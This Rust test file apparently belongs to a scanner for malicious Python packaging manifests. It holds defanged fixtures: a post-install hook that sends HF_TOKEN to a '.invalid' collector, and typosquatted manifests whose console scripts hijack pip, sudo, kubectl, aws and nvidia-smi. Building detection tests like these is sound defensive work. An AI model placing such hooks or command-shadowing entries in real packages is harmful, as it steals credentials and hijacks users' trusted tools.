//! Packaging manifests in the on-demand mode (`WHERE path = ...`): console
//! scripts that take over trusted commands, declared in `setup.cfg`,
//! `pyproject.toml`, a wheel's `entry_points.txt` or a `setup.py` literal,
//! and `setup.cfg` `cmdclass` hooks pointing at in-tree code. Each true
//! positive has a benign look-alike beside it. Fixtures are defanged:
//! `.invalid` endpoints, fake EXAMPLE values, payloads that start with
//! `raise SystemExit(...)` and are only ever read as text.

mod common;

use std::io::{Cursor, Write};
use std::sync::Arc;

use common::FakeHost;
use squatch::table::{Operator, QueryContext, Row, Table};
use squatch::tables::python_install_findings::PythonInstallFindings;

const HOOK_MODULE: &str = r#"raise SystemExit("squatch test fixture: read as text, never run")
import os
import urllib.request
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        token = os.environ.get("HF_TOKEN", "hf_FAKEEXAMPLE")
        urllib.request.urlopen("https://collector.invalid/c?t=" + token)
"#;

const EVIL_SETUP_CFG: &str = "[metadata]\nname = torch-utilites\nversion = 0.1\n\n[options]\npackages = find:\ncmdclass =\n    install = torch_utilites.hooks:PostInstall\n\n[options.entry_points]\nconsole_scripts =\n    pip = torch_utilites.cli:main\n    torch-utilites = torch_utilites.cli:main\n";

/// A real-world shape: a build_py override in the tree and an external
/// cmdclass, console scripts under the project's own names.
const BENIGN_SETUP_CFG: &str = "[metadata]\nname = plainpkg\n\n[options]\ncmdclass =\n    build_py = plainpkg._build:BuildPy\n    sdist = some_build_helper.commands:Sdist\n\n[options.entry_points]\nconsole_scripts =\n    plainpkg = plainpkg.cli:main\n    pip-audit-lite = plainpkg.cli:audit\n";

fn query(fh: &FakeHost, path: &str) -> Vec<Row> {
    PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all().with("path", Operator::Equals, path))
        .unwrap()
}

fn rows_of<'a>(rows: &'a [Row], rule: &str) -> Vec<&'a Row> {
    rows.iter()
        .filter(|r| r.get("rule_id") == Some(rule))
        .collect()
}

fn targz(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, body) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, name, body.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (name, body) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(body.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[test]
fn setup_cfg_in_a_source_tree_shadowing_and_cmdclass() {
    let fh = FakeHost::new();
    fh.write("/src/evil/setup.cfg", EVIL_SETUP_CFG);
    fh.write(
        "/src/evil/setup.py",
        "from setuptools import setup\nsetup()\n",
    );
    fh.write("/src/evil/torch_utilites/__init__.py", "");
    fh.write("/src/evil/torch_utilites/hooks.py", HOOK_MODULE);
    let rows = query(&fh, "/src/evil");

    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(shadow[0].get("member"), Some("setup.cfg"));
    assert_eq!(shadow[0].get("severity"), Some("high"));
    assert_eq!(shadow[0].get("line"), Some("12"));
    assert!(shadow[0].get("evidence").unwrap().contains("pip"));

    let hook = rows_of(&rows, "hook-cfg-cmdclass");
    assert_eq!(hook.len(), 1);
    assert_eq!(hook[0].get("severity"), Some("medium"));
    assert_eq!(hook[0].get("category"), Some("install_hook"));

    // The module the hook names is weighed as install code, like setup.py.
    let module: Vec<&Row> = rows
        .iter()
        .filter(|r| r.get("member") == Some("torch_utilites/hooks.py"))
        .collect();
    assert!(
        module.iter().all(|r| r.get("role") == Some("install")),
        "{module:#?}"
    );
    assert!(module.iter().any(
        |r| r.get("rule_id") == Some("combo-credential-exfiltration")
            && r.get("severity") == Some("critical")
    ));
}

#[test]
fn benign_setup_cfg_stays_low() {
    let fh = FakeHost::new();
    fh.write("/src/plain/setup.cfg", BENIGN_SETUP_CFG);
    fh.write(
        "/src/plain/plainpkg/_build.py",
        "from setuptools.command.build_py import build_py\n\nclass BuildPy(build_py):\n    pass\n",
    );
    fh.write("/src/plain/plainpkg/cli.py", "def main():\n    return 0\n");
    let rows = query(&fh, "/src/plain");
    assert!(
        rows_of(&rows, "entry-point-shadows-command").is_empty(),
        "{rows:#?}"
    );
    let hooks = rows_of(&rows, "hook-cfg-cmdclass");
    let sev: Vec<(&str, &str)> = hooks
        .iter()
        .map(|r| (r.get("evidence").unwrap(), r.get("severity").unwrap()))
        .collect();
    assert_eq!(
        sev,
        vec![
            ("build_py = plainpkg._build:BuildPy", "low"),
            ("sdist = some_build_helper.commands:Sdist", "info")
        ]
    );
    // pip's own setup.cfg may name `pip`.
    let fh = FakeHost::new();
    fh.write(
        "/src/pip/setup.cfg",
        "[metadata]\nname = pip\n[options.entry_points]\nconsole_scripts =\n    pip = pip._internal.cli.main:main\n    pip3 = pip._internal.cli.main:main\n",
    );
    assert!(rows_of(&query(&fh, "/src/pip"), "entry-point-shadows-command").is_empty());
}

#[test]
fn setup_cfg_in_an_sdist_and_as_a_single_file() {
    let fh = FakeHost::new();
    fh.write(
        "/dl/torch_utilites-0.1.tar.gz",
        targz(&[
            // The hook module before the setup.cfg that names it.
            ("torch_utilites-0.1/torch_utilites/hooks.py", HOOK_MODULE),
            ("torch_utilites-0.1/torch_utilites/util.py", HOOK_MODULE),
            ("torch_utilites-0.1/setup.cfg", EVIL_SETUP_CFG),
        ]),
    );
    let rows = query(&fh, "/dl/torch_utilites-0.1.tar.gz");
    // The module the hook names is weighed as install code; another module
    // with the same text keeps its module role.
    let member =
        |m: &str| -> Vec<&Row> { rows.iter().filter(|r| r.get("member") == Some(m)).collect() };
    let hooked = member("torch_utilites-0.1/torch_utilites/hooks.py");
    assert!(!hooked.is_empty());
    assert!(
        hooked.iter().all(|r| r.get("role") == Some("install")),
        "{hooked:#?}"
    );
    assert!(hooked.iter().any(
        |r| r.get("rule_id") == Some("combo-credential-exfiltration")
            && r.get("severity") == Some("critical")
    ));
    let plain = member("torch_utilites-0.1/torch_utilites/util.py");
    assert!(!plain.is_empty());
    assert!(plain.iter().all(|r| r.get("role") == Some("module")));
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(
        shadow[0].get("member"),
        Some("torch_utilites-0.1/setup.cfg")
    );
    let hook = rows_of(&rows, "hook-cfg-cmdclass");
    assert_eq!(hook[0].get("severity"), Some("medium"), "{rows:#?}");

    // The hook names a module the sdist does not ship: external, info.
    fh.write(
        "/dl/torch_utilites-0.2.tar.gz",
        targz(&[("torch_utilites-0.2/setup.cfg", EVIL_SETUP_CFG)]),
    );
    let rows = query(&fh, "/dl/torch_utilites-0.2.tar.gz");
    assert_eq!(
        rows_of(&rows, "hook-cfg-cmdclass")[0].get("severity"),
        Some("info")
    );

    fh.write("/tmp/x/setup.cfg", EVIL_SETUP_CFG);
    let rows = query(&fh, "/tmp/x/setup.cfg");
    assert_eq!(rows_of(&rows, "entry-point-shadows-command").len(), 1);
    assert!(rows
        .iter()
        .all(|r| r.get("path") == Some("/tmp/x/setup.cfg")));
}

#[test]
fn pyproject_scripts_shadowing() {
    let fh = FakeHost::new();
    fh.write(
        "/src/evil/pyproject.toml",
        "[project]\nname = \"nvidia-smi-helper\"\n\n[project.scripts]\nnvidia-smi = \"nvidia_smi_helper.cli:main\"\nnvsmi-helper = \"nvidia_smi_helper.cli:main\"\n",
    );
    let rows = query(&fh, "/src/evil");
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(shadow[0].get("member"), Some("pyproject.toml"));
    assert_eq!(shadow[0].get("line"), Some("5"));
    assert_eq!(shadow[0].get("role"), Some("config"));

    // huggingface_hub may install huggingface-cli; its look-alike name may not.
    fh.write(
        "/src/hf/pyproject.toml",
        "[project]\nname = \"huggingface_hub\"\n[project.scripts]\nhuggingface-cli = \"huggingface_hub.commands.huggingface_cli:main\"\n",
    );
    assert!(rows_of(&query(&fh, "/src/hf"), "entry-point-shadows-command").is_empty());
    fh.write(
        "/src/hf2/pyproject.toml",
        "[project]\nname = \"huggingface-hub-utils\"\n[project.scripts]\nhuggingface-cli = \"hfu.cli:main\"\n",
    );
    assert_eq!(
        rows_of(&query(&fh, "/src/hf2"), "entry-point-shadows-command").len(),
        1
    );
}

#[test]
fn wheel_entry_points_txt_shadowing() {
    let fh = FakeHost::new();
    fh.write(
        "/dl/aws_helper-1.0-py3-none-any.whl",
        zip(&[
            ("aws_helper/__init__.py", "x = 1\n"),
            (
                "aws_helper-1.0.dist-info/entry_points.txt",
                "[console_scripts]\naws = aws_helper.cli:main\n\n[gui_scripts]\nls = aws_helper.gui:main\n",
            ),
            ("aws_helper-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
        ]),
    );
    let rows = query(&fh, "/dl/aws_helper-1.0-py3-none-any.whl");
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(
        shadow[0].get("member"),
        Some("aws_helper-1.0.dist-info/entry_points.txt")
    );
    assert_eq!(shadow[0].get("role"), Some("entry_point"));

    // awscli's own wheel.
    fh.write(
        "/dl/awscli-1.32.0-py3-none-any.whl",
        zip(&[(
            "awscli-1.32.0.dist-info/entry_points.txt",
            "[console_scripts]\naws = awscli.clidriver:main\n",
        )]),
    );
    assert!(rows_of(
        &query(&fh, "/dl/awscli-1.32.0-py3-none-any.whl"),
        "entry-point-shadows-command"
    )
    .is_empty());

    // An unpacked wheel given as a tree.
    fh.write(
        "/src/unpacked/aws_helper-1.0.dist-info/entry_points.txt",
        "[console_scripts]\naws = aws_helper.cli:main\n",
    );
    fh.write(
        "/src/unpacked/awscli-1.32.0.dist-info/entry_points.txt",
        "[console_scripts]\naws = awscli.clidriver:main\n",
    );
    let rows = query(&fh, "/src/unpacked");
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(
        shadow[0].get("member"),
        Some("aws_helper-1.0.dist-info/entry_points.txt")
    );
}

#[test]
fn setup_py_console_scripts_literal() {
    let fh = FakeHost::new();
    let evil = "raise SystemExit(\"squatch test fixture: read as text, never run\")\nfrom setuptools import setup\nsetup(\n    name='kube-tools-fast',\n    entry_points={\n        'console_scripts': [\n            'kubectl=kube_tools_fast.cli:main',\n            'ktf = kube_tools_fast.cli:main',\n        ],\n    },\n)\n";
    let benign = "from setuptools import setup\nsetup(\n    name='kube-tools-fast',\n    entry_points={'console_scripts': ['ktf = kube_tools_fast.cli:main']},\n)\n";
    fh.write(
        "/dl/kube_tools_fast-0.1.tar.gz",
        targz(&[("kube_tools_fast-0.1/setup.py", evil)]),
    );
    fh.write(
        "/dl/kube_tools_fast-0.2.tar.gz",
        targz(&[("kube_tools_fast-0.2/setup.py", benign)]),
    );
    let rows = query(&fh, "/dl/kube_tools_fast-0.1.tar.gz");
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(
        shadow[0].get("member"),
        Some("kube_tools_fast-0.1/setup.py")
    );
    assert_eq!(shadow[0].get("line"), Some("7"));
    assert_eq!(shadow[0].get("role"), Some("install"));
    let rows = query(&fh, "/dl/kube_tools_fast-0.2.tar.gz");
    assert!(
        rows_of(&rows, "entry-point-shadows-command").is_empty(),
        "{rows:#?}"
    );
}

#[test]
fn sdist_egg_info_entry_points_show_scripts_setup_py_computes() {
    let fh = FakeHost::new();
    // The name is built at run time: the literal scan cannot see it, the
    // egg-info setuptools wrote into the sdist can.
    let setup_py = "raise SystemExit(\"squatch test fixture: read as text, never run\")\nfrom setuptools import setup\nNAME = 'su' + 'do'\nsetup(name='sudo-helpers', entry_points={'console_scripts': [NAME + ' = sudo_helpers.cli:main']})\n";
    fh.write(
        "/dl/sudo_helpers-0.1.tar.gz",
        targz(&[
            ("sudo_helpers-0.1/setup.py", setup_py),
            (
                "sudo_helpers-0.1/src/sudo_helpers.egg-info/entry_points.txt",
                "[console_scripts]\nsudo = sudo_helpers.cli:main\n",
            ),
        ]),
    );
    let rows = query(&fh, "/dl/sudo_helpers-0.1.tar.gz");
    let shadow = rows_of(&rows, "entry-point-shadows-command");
    assert_eq!(shadow.len(), 1, "{rows:#?}");
    assert_eq!(
        shadow[0].get("member"),
        Some("sudo_helpers-0.1/src/sudo_helpers.egg-info/entry_points.txt")
    );
    // Benign: the egg-info lists the project's own command.
    fh.write(
        "/dl/sudo_helpers-0.2.tar.gz",
        targz(&[(
            "sudo_helpers-0.2/sudo_helpers.egg-info/entry_points.txt",
            "[console_scripts]\nsudo-helpers = sudo_helpers.cli:main\n",
        )]),
    );
    let rows = query(&fh, "/dl/sudo_helpers-0.2.tar.gz");
    assert!(
        rows_of(&rows, "entry-point-shadows-command").is_empty(),
        "{rows:#?}"
    );
}
